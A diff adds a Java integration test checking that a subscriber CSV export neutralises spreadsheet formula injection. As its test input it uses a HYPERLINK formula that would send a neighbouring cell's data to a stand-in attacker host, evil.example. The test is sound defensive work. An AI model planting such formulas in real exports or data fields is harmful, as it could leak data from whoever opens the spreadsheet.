@@ -42,6 +42,20 @@ class AdminApiTest extends IntegrationTestBase {
     }
 
     @Test
+    void exportedCellsThatASpreadsheetWouldEvaluateStayText() throws Exception {
+        String email = unique("csv") + "@example.org";
+        String formula = "=HYPERLINK(\\\"http://evil.example/?\\\"&B2,\\\"x\\\")";
+        assertThat(post("/api/subscriptions", "application/json",
+                "{\"email\":\"" + email + "\",\"tags\":[\"" + formula + "\",\"-2+3\"]}").statusCode())
+                .isEqualTo(202);
+
+        String line = admin("GET", "/api/admin/subscribers/export.csv", null, null).body().lines()
+                .filter(l -> l.contains(email)).findFirst().orElseThrow();
+        assertThat(line).contains("\"'-2+3;=hyperlink(").doesNotContain(",=").doesNotContain("\"=")
+                .doesNotContain(",-2");
+    }
+
+    @Test
     void erasureRemovesThePersonAndAnonymisesTheirDeliveries() throws Exception {
         String category = unique("cat");
         String email = unique("erase") + "@example.org";
